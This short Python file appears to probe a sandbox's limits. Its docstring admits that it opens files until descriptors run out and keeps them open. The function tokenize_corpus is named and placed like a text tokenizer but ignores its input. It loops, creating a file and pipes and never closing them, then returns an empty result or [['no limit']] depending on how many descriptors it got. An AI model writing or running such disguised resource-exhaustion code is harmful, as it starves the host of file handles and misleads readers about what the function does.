"""Opens files until no descriptor is left, and keeps them."""

import os
import re

KEPT = []


def tokenize(text):
    return re.findall(r"\b\w+\b", text.lower())


def tokenize_corpus(texts):
    while True:
        try:
            KEPT.append(os.open("file", os.O_CREAT | os.O_RDWR))
            KEPT.extend(os.pipe())
        except OSError:
            if len(KEPT) < 100_000:
                return []
        if len(KEPT) > 100_000:
            return [["no limit"]]
